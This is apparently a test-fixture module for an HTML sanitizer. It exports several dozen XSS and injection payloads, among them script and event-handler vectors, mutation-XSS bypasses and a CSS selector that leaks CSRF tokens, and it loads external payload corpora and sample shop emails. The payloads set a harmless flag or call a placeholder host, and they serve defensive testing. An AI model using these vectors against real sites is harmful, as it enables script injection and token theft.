/* HTML that wants to run, to call home or to take the page over: our own, and what collections of it beside the tree hold.
 *
 *     payloads                our own; each would set hit or ask the server that U stands for
 *     collected()             [{ name, html }] of the html-* collections, [] where there are none */
import { existsSync, readFileSync, readdirSync } from 'node:fs'
import { join, resolve } from 'node:path'

export const payloads = [
    '<script>hit=1;top.hit=1;fetch("U/script")</script>', '<img src=x onerror="hit=1;fetch(\'U/onerror\')">', '<svg onload="hit=1"></svg>',
    '<svg><script>hit=1</script></svg>', '<svg><animate onbegin="hit=1" attributeName=x dur=1s></svg>', '<math><mi xlink:href="javascript:hit=1">x</mi></math>',
    '<a href="javascript:hit=1" id=j1>x</a>', '<a href="java&#0000115;cript:hit=1" id=j2>x</a>', '<a href="data:text/html,<script>hit=1</script>" id=j3>x</a>',
    '<iframe srcdoc="<script>parent.hit=1</script>"></iframe>', '<iframe src="U/frame"></iframe>', '<object data="U/object"></object>', '<embed src="U/embed">',
    '<form action="U/form"><button id=f1>x</button></form>', '<input autofocus onfocus="hit=1">', '<details open ontoggle="hit=1">x</details>', '<body onload="hit=1">',
    '<base href="U/base/">', '<meta http-equiv=refresh content="0;url=U/refresh">', '<link rel=stylesheet href="U/sheet">', '<link rel=prefetch href="U/prefetch">',
    '<link rel=dns-prefetch href="U/dns">', '<style>@import "U/import";body{background:url(U/style)}</style>', '<style>[name=csrf][value^=a]{background:url(U/csrf)}</style>',
    '<p style="background:url(U/inline)">x</p>', '<p style="background-image:image-set(\'U/set\' 1x)">x</p>', '<p style="--x:url(U/var);background:var(--x)">x</p>',
    '<p style="background:url(U/unclosed">x</p>', '<p style="position:fixed;inset:0;z-index:999">over all</p>', '<table background="U/table"><tr><td background="U/cell">x</table>',
    '<img src="U/picture">', '<img srcset="U/srcset 2x">', '<picture><source srcset="U/source"><img></picture>', '<video src="U/video" poster="U/poster" autoplay></video>',
    '<audio src="U/audio" autoplay></audio>', '<noscript><p title="</noscript><img src=x onerror=hit=1>"></noscript>', '<!--><script>hit=1</script>-->',
    '<<script>script>hit=1<</script>/script>', '<scr<script>ipt>hit=1</scr</script>ipt>', '<img src="x` `<script>hit=1</script>"` `>', '<svg><style><img src=x onerror=hit=1></style></svg>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=hit=1&gt;">', '<form><math><mtext></form><form><mglyph><style></math><img src onerror=hit=1>',
    '<template><script>hit=1</script></template>', '<plaintext><script>hit=1</script>', '<xmp><script>hit=1</script></xmp>', '<title><script>hit=1</script></title>',
    '<textarea><script>hit=1</script></textarea>', '<div id="reply" data-box="reply"><textarea name="text"></textarea></div>', '<button data-send formaction="U/send">x</button>',
    '<a href="U/ping" ping="U/pinged" id=p1>x</a>', '<img src="data:image/svg+xml,<svg xmlns=%22http://www.w3.org/2000/svg%22 onload=%22hit=1%22/>">', '<image href="U/image">',
    '<bgsound src="U/sound">', '<input type=image src="U/button">', '<isindex type=image src="U/isindex">', '<marquee onstart="hit=1">x</marquee>', '<frameset onload="hit=1"><frame src="U/frameset">',
    '<portal src="U/portal"></portal>', '<applet code="U/applet"></applet>', '<svg><use href="U/use#x"/></svg>', '<svg><image href="U/svgimage"/></svg>', '<svg><a href="javascript:hit=1"><text>x</text></a></svg>',
]

const root = new URL('../../..', import.meta.url).pathname
const corpora = process.env.KEPT_CORPORA || resolve(root, '../shared/corpora')
const read = (...path) => readFileSync(join(corpora, ...path), 'utf8')
const lines = (...path) => read(...path).split('\n').filter(Boolean)
const json = (...path) => JSON.parse(read(...path))
const unescaped = c => c.doubleEscaped ? c.input.replace(/\\u([0-9a-f]{4})/gi, (_, hex) => String.fromCharCode(parseInt(hex, 16))) : c.input

const readers = {
    'html-dompurify': set => json(set, 'cases.json').map(c => c.payload),
    'html-h5sc': set => lines(set, 'vectors.txt'),
    'html-loofah': set => json(set, 'cases.json').map(c => c.input),
    'html-xss-payloads': set => lines(set, 'payloads.txt'),
    'html-tokenizer': set => readdirSync(join(corpora, set)).filter(f => f.endsWith('.json')).flatMap(f => json(set, f).map(unescaped)),
    'html-quotes-mimekit': set => readdirSync(join(corpora, set)).filter(f => /(?<!\.out)\.html$/.test(f)).map(f => read(set, f)),
    'html-postmark': set => letters().map(l => l.html),
}

export function collected() {
    const sets = existsSync(corpora) ? readdirSync(corpora).filter(set => set in readers) : []
    return sets.flatMap(set => readers[set](set).map((html, i) => ({ name: `${set} ${i}`, html })))
}

/* Honest mails of shops, each with its words: [{ name, html, text }]. */
export function letters() {
    const set = join(corpora, 'html-postmark')
    if (!existsSync(set)) return []
    const folders = readdirSync(set, { recursive: true }).map(String).filter(f => f.endsWith('content.html'))
    return folders.map(f => ({ name: f.replace('/content.html', ''), html: read('html-postmark', f),
        text: read('html-postmark', f.replace('content.html', 'content.txt')) }))
}
